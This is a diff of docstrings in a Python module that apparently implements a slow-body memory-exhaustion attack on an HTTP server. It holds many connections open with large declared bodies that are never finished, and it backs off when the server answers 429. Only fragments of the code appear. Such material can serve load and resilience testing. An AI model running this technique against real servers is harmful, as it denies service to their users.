@@ -1,7 +1,7 @@
-"""Hold memory as a caller who claims an access key: send all of a body but its last bytes.
+"""Exhaust memory as a caller who claims an access key: withhold the end of each body.
 
-Only the public half of the key is needed. The headers pass, and the server must have the whole
-body before it can see that the signature is wrong.
+Only the public half of the key is needed. The server needs the whole body before it can verify the
+signature.
 """
 
 from __future__ import annotations
@@ -27,15 +27,15 @@ async def attack(
     connections: int = 12,
     body_bytes: int = 12 * 1024**2,
 ) -> None:
-    """Keep unfinished bodies open until the time is over; never raise for what the server does.
+    """Keep unfinished bodies open; ignore errors of the server.
 
     Args:
-        url: of the server; http only.
-        access_key: public half of a key that the server knows.
-        seconds: how long.
-        source: address to call from.
-        connections: at once.
-        body_bytes: declared length of each body.
+        url: URL of the server; http only.
+        access_key: Public half of a key that the server knows.
+        seconds: Duration.
+        source: Local address to call from.
+        connections: Concurrent connections.
+        body_bytes: Declared length of each body.
     """
     with suppress(TimeoutError):
         async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
@@ -44,7 +44,7 @@ async def attack(
 
 
 async def _hold(url: str, access_key: str, source: str, body_bytes: int) -> None:
-    """Withhold one body after the other; take what is left with smaller ones."""
+    """Send unfinished bodies; halve the size while the server answers 429."""
     parts = urlsplit(url)
     size = body_bytes
     while True:
